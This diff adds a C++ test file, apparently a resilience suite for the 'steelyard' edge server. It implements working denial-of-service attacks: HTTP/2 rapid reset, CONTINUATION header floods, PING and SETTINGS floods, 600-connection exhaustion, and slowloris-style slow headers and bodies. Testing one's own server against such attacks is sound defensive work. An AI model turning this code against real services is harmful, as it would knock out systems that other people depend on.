@@ -1,0 +1,180 @@
+#include "tests/edge/attacks.h"
+
+#include <atomic>
+#include <memory>
+#include <thread>
+#include <utility>
+
+#include "absl/time/clock.h"
+#include "tests/edge/front.h"
+#include "tests/edge/h2.h"
+#include "tests/edge/tls_client.h"
+#include "tests/support/http_client.h"
+
+namespace steelyard::edge {
+namespace {
+
+constexpr char kFrom[] = "127.0.0.66:0";
+constexpr char kPing[] = "/steelyard.v1.OperationsService/Ping";
+constexpr size_t kFrame = 16 << 10;
+
+bool Over(const Target& target) { return absl::Now() >= target.until; }
+
+std::unique_ptr<TlsClient> Open(const Target& target, const std::string& protocol = "h2") {
+  auto client = TlsClient::Connect(target.address, kHost, protocol, kFrom);
+  if (client != nullptr && protocol == "h2" && !client->Write(h2::Preface(), target.until)) {
+    return nullptr;
+  }
+  return client;
+}
+
+// Runs `one` on so many threads and adds up what they say.
+template <typename One>
+int64_t OnThreads(int count, One one) {
+  std::atomic<int64_t> sum{0};
+  std::vector<std::thread> threads;
+  for (int i = 0; i < count; ++i) threads.emplace_back([&] { sum += one(); });
+  for (std::thread& thread : threads) thread.join();
+  return sum;
+}
+
+int64_t RapidReset(const Target& target) {
+  const std::string block = h2::CallBlock(kHost, kPing, target.authorization);
+  const std::string message = std::string(5, '\0');
+  return OnThreads(4, [&] {
+    int64_t resets = 0;
+    while (!Over(target)) {
+      const auto client = Open(target);
+      if (client == nullptr) continue;
+      for (uint32_t stream = 1; !Over(target);) {
+        std::string burst;
+        for (int i = 0; i < 50; ++i, stream += 2) {
+          burst += h2::Frame(h2::kHeaders, h2::kEndHeaders, stream, block);
+          burst += h2::Frame(h2::kData, h2::kEndStream, stream, message);
+          burst += h2::ResetFrame(stream);
+        }
+        if (!client->Write(burst, target.until)) break;
+        resets += 50;
+      }
+    }
+    return resets;
+  });
+}
+
+// Frames of a header block that never ends, each holding `part`.
+int64_t EndlessHeaders(const Target& target, const std::string& part) {
+  std::atomic<int64_t> sent{0};
+  OnThreads(2, [&]() -> int64_t {
+    while (!Over(target)) {
+      const auto client = Open(target);
+      if (client == nullptr) continue;
+      bool open = client->Write(
+          h2::Frame(h2::kHeaders, 0, 1, h2::CallBlock(kHost, kPing, target.authorization)),
+          target.until);
+      while (open && !Over(target)) {
+        open = client->Write(h2::Frame(h2::kContinuation, 0, 1, part), target.until);
+        sent += static_cast<int64_t>(part.size());
+      }
+    }
+    return 0;
+  });
+  return sent >> 10;
+}
+
+int64_t HeaderFlood(const Target& target) {
+  std::string part;
+  while (part.size() < kFrame - 8) part += h2::Block({{"a", "b"}});
+  return EndlessHeaders(target, part);
+}
+
+int64_t PaddedNumbers(const Target& target) {
+  return EndlessHeaders(target, h2::PaddedHeader(7'000));
+}
+
+int64_t ManyConnections(const Target& target) {
+  std::vector<std::unique_ptr<TlsClient>> open;
+  while (open.size() < 600 && !Over(target)) {
+    auto client = Open(target, open.size() % 2 == 0 ? "h2" : "http/1.1");
+    if (client != nullptr) open.push_back(std::move(client));
+  }
+  const std::string ask = h2::Frame(h2::kHeaders, h2::kEndHeaders, 1,
+                                    h2::CallBlock(kHost, kPing, target.authorization));
+  for (size_t i = 0; i < open.size(); ++i) {
+    open[i]->Write(i % 2 == 0 ? ask : "GET /sign-in HTTP/1.1\r\n", target.until);
+  }
+  absl::SleepFor(target.until - absl::Now());
+  return static_cast<int64_t>(open.size());
+}
+
+int64_t FrameFlood(const Target& target, const std::string& frame) {
+  std::string burst;
+  for (int i = 0; i < 200; ++i) burst += frame;
+  return OnThreads(2, [&] {
+    int64_t frames = 0;
+    while (!Over(target)) {
+      const auto client = Open(target);
+      while (client != nullptr && !Over(target) && client->Write(burst, target.until)) {
+        frames += 200;
+      }
+    }
+    return frames;
+  });
+}
+
+int64_t PingFlood(const Target& target) {
+  return FrameFlood(target, h2::Frame(h2::kPing, 0, 0, "12345678"));
+}
+
+int64_t SettingsFlood(const Target& target) {
+  return FrameFlood(target, h2::Frame(h2::kSettings, 0, 0, std::string("\0\4\0\0\xff\xff", 6)));
+}
+
+// Many connections, each with a request that goes on a byte at a time.
+int64_t Drip(const Target& target, const std::string& start) {
+  std::vector<std::unique_ptr<TlsClient>> open;
+  int64_t opened = 0;
+  while (!Over(target)) {
+    for (auto& client : open) {
+      if (client != nullptr && !client->Write("a", target.until)) client = nullptr;
+    }
+    std::erase(open, nullptr);
+    while (open.size() < 150 && !Over(target)) {
+      auto client = Open(target, "http/1.1");
+      if (client == nullptr || !client->Write(start, target.until)) break;
+      open.push_back(std::move(client));
+      ++opened;
+    }
+    absl::SleepFor(std::min(absl::Milliseconds(200), target.until - absl::Now()));
+  }
+  return opened;
+}
+
+int64_t SlowHeaders(const Target& target) {
+  return Drip(target,
+              std::string("POST ") + kPing + " HTTP/1.1\r\nHost: " + kHost + "\r\nX-Slow: ");
+}
+
+int64_t SlowBody(const Target& target) {
+  return Drip(target, testing::RequestText("POST", kPing, kHost,
+                                           {{"Content-Type", "application/json"},
+                                            {"Authorization", target.authorization},
+                                            {"Content-Length", "1000000"}}));
+}
+
+}  // namespace
+
+const std::vector<Attack>& Attacks() {
+  static const std::vector<Attack> attacks = {
+      {"rapid reset", "resets", RapidReset},
+      {"header flood (CONTINUATION)", "KiB", HeaderFlood},
+      {"padded numbers", "KiB", PaddedNumbers},
+      {"600 connections, 256 files", "connections", ManyConnections},
+      {"PING flood", "frames", PingFlood},
+      {"SETTINGS flood", "frames", SettingsFlood},
+      {"slow headers", "connections", SlowHeaders},
+      {"slow bodies", "connections", SlowBody},
+  };
+  return attacks;
+}
+
+}  // namespace steelyard::edge
